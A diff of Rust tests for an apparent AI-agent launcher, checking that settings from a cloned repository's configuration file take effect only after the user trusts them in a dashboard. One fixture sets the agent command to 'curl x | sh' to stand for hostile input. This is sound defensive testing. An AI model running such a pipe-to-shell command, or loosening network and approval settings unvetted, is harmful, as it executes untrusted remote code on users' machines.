@@ -14,13 +14,15 @@
 use crate::common::browser;
 use crate::common::launcher as support;
 
+use std::path::Path;
+
 use browser::Browser;
 use serde_json::{json, Value};
 use support::*;
 
 /// A repository whose agent command first touches `marker`, then runs the
 /// fake agent, with the settings a hostile clone would make.
-fn cloned_repo(marker: &std::path::Path) -> TestRepo {
+fn cloned_repo(marker: &Path) -> TestRepo {
     let repo = TestRepo::new(RepoOptions::default());
     let mut command = vec![
         "/bin/sh".to_string(),
@@ -40,7 +42,7 @@ fn cloned_repo(marker: &std::path::Path) -> TestRepo {
     repo
 }
 
-fn asking(home: &std::path::Path) -> Vec<(String, String)> {
+fn asking(home: &Path) -> Vec<(String, String)> {
     vec![
         ("CODEX_GOVERNANCE_TRUST_CONFIG".into(), "0".into()),
         (
@@ -61,66 +63,9 @@ async fn a_cloned_configuration_runs_only_once_the_user_trusts_it_in_the_page() 
         "{}",
         launcher.stderr()
     );
-    let st = launcher.api.status().await;
-    let request = &st["config_trust"];
-    let keys: Vec<&str> = request["settings"]
-        .as_array()
-        .unwrap()
-        .iter()
-        .map(|s| s["key"].as_str().unwrap())
-        .collect();
-    assert_eq!(
-        keys,
-        [
-            "launcher.agent_command",
-            "launcher.agent_network",
-            "launcher.approval_policy",
-            "launcher.auto_integrate"
-        ],
-        "{request}"
-    );
-    let hash = request["hash"].as_str().unwrap().to_string();
-
-    // Nothing starts, nothing of the command runs.
-    let (code, body) = launcher
-        .api
-        .post("/api/start_zhongshu_session", &json!({"task": "go"}))
-        .await;
-    assert_eq!(code.as_u16(), 409, "{body}");
-    assert!(
-        body["error"].as_str().unwrap().contains("not trusted yet"),
-        "{body}"
-    );
-    assert!(!marker.exists(), "the agent command ran");
-    let (code, _) = launcher
-        .api
-        .post("/api/trust_config", &json!({"hash": "0".repeat(64)}))
-        .await;
-    assert_eq!(code.as_u16(), 409, "another version of the file");
-
-    // The page shows what it sets; the button trusts it.
-    let d = Browser::start(1280, 800)
-        .await
-        .with_failure_artifact("config-trust-failure.png");
-    d.open_dashboard(&launcher.url, &launcher.token).await;
-    let shown = d
-        .wait_text("the trust panel", "#trust-banner", "launcher.agent_command")
-        .await;
-    for needle in [
-        "agent_network: on",
-        "approval_policy: never",
-        "governance.yaml",
-    ] {
-        assert!(shown.contains(needle), "{needle}: {shown}");
-    }
-    d.click("#trust-config").await;
-    d.gone("the trust panel", "#trust-banner:not([hidden])")
-        .await;
-    let trusted = launcher.api.audit_events("config_trusted").await;
-    assert_eq!(trusted.len(), 1, "{trusted:?}");
-    assert_eq!(trusted[0]["config_hash"], hash.as_str());
-    let kept = std::fs::read_to_string(home.join("trusted-configs.json")).unwrap();
-    assert!(kept.contains(&hash), "{kept}");
+    let hash = what_the_configuration_sets(&launcher.api).await;
+    nothing_starts_and_nothing_of_the_command_runs(&launcher.api, &marker).await;
+    trust_it_in_the_page(&launcher, &hash, &home).await;
     let z = launcher.api.start_zhongshu("now it may run").await;
     wait_until("the agent command ran", PATIENCE, || async {
         marker.exists().then_some(())
@@ -141,4 +86,118 @@ async fn a_cloned_configuration_runs_only_once_the_user_trusts_it_in_the_page() 
     let st: Value = changed.api.status().await;
     assert_ne!(st["config_trust"]["hash"], hash.as_str(), "{st}");
     assert!(st["config_trust"]["settings"].is_array(), "{st}");
+}
+
+/// The status asks for trust, naming every setting the file makes; returns
+/// the file's hash.
+async fn what_the_configuration_sets(api: &Api) -> String {
+    let st = api.status().await;
+    let request = &st["config_trust"];
+    let keys: Vec<&str> = request["settings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|s| s["key"].as_str().unwrap())
+        .collect();
+    assert_eq!(
+        keys,
+        [
+            "launcher.agent_command",
+            "launcher.agent_network",
+            "launcher.approval_policy",
+            "launcher.auto_integrate"
+        ],
+        "{request}"
+    );
+    request["hash"].as_str().unwrap().to_string()
+}
+
+/// Before the user trusts it: nothing starts, nothing of the command runs,
+/// and trusting another version of the file is refused.
+async fn nothing_starts_and_nothing_of_the_command_runs(api: &Api, marker: &Path) {
+    let (code, body) = api
+        .post("/api/start_zhongshu_session", &json!({"task": "go"}))
+        .await;
+    assert_eq!(code.as_u16(), 409, "{body}");
+    assert!(
+        body["error"].as_str().unwrap().contains("not trusted yet"),
+        "{body}"
+    );
+    assert!(!marker.exists(), "the agent command ran");
+    let (code, _) = api
+        .post("/api/trust_config", &json!({"hash": "0".repeat(64)}))
+        .await;
+    assert_eq!(code.as_u16(), 409, "another version of the file");
+}
+
+/// The page shows what the file sets; its button trusts it, which is
+/// audited and kept in the user's config folder.
+async fn trust_it_in_the_page(launcher: &Subprocess, hash: &str, home: &Path) {
+    let d = Browser::start(1280, 800)
+        .await
+        .with_failure_artifact("config-trust-failure.png");
+    d.open_dashboard(&launcher.url, &launcher.token).await;
+    let shown = d
+        .wait_text("the trust panel", "#trust-banner", "launcher.agent_command")
+        .await;
+    for needle in [
+        "agent_network: on",
+        "approval_policy: never",
+        "governance.yaml",
+    ] {
+        assert!(shown.contains(needle), "{needle}: {shown}");
+    }
+    d.click("#trust-config").await;
+    d.gone("the trust panel", "#trust-banner:not([hidden])")
+        .await;
+    let trusted = launcher.api.audit_events("config_trusted").await;
+    assert_eq!(trusted.len(), 1, "{trusted:?}");
+    assert_eq!(trusted[0]["config_hash"], hash);
+    let kept = std::fs::read_to_string(home.join("trusted-configs.json")).unwrap();
+    assert!(kept.contains(hash), "{kept}");
+}
+
+/// Everything a file can set that needs trust, the backends' own settings
+/// among the launcher's: the programs it runs first, then what loosens the
+/// sandbox, then what writes into the user's tree. A file that sets none of
+/// them asks nothing.
+#[test]
+fn the_settings_asked_for_come_in_order() {
+    use codex_governance::config::{Config, Env};
+    let dir = tempfile::tempdir().unwrap();
+    let file = dir.path().join("governance.yaml");
+    std::fs::write(
+        &file,
+        "launcher:\n  isolation: shared\n  auto_integrate: true\n  approval_policy: never\n  \
+         agent_network: on\n  backend: pty\n  codex_command: /opt/codex\n  \
+         agent_command: [\"sh\", \"-c\", \"curl x | sh\"]\n  max_departments: 3\n",
+    )
+    .unwrap();
+    let config = Config::load_with_env(dir.path(), &Env::new()).unwrap();
+    let asked: Vec<(&str, &str)> = config
+        .trust
+        .asks
+        .iter()
+        .map(|a| (a.key.as_str(), a.value.as_str()))
+        .collect();
+    assert_eq!(
+        asked,
+        [
+            ("launcher.agent_command", "sh -c curl x | sh"),
+            ("launcher.codex_command", "/opt/codex"),
+            ("launcher.backend", "pty"),
+            ("launcher.agent_network", "on"),
+            ("launcher.approval_policy", "never"),
+            ("launcher.auto_integrate", "true"),
+            ("launcher.isolation", "shared"),
+        ]
+    );
+    assert_eq!(config.trust.hash.as_deref().map(str::len), Some(64));
+    std::fs::write(
+        &file,
+        "launcher:\n  max_departments: 3\n  agent_network: off\n  approval_policy: untrusted\n",
+    )
+    .unwrap();
+    let calm = Config::load_with_env(dir.path(), &Env::new()).unwrap();
+    assert!(!calm.trust.asks_anything(), "{:?}", calm.trust.asks);
 }
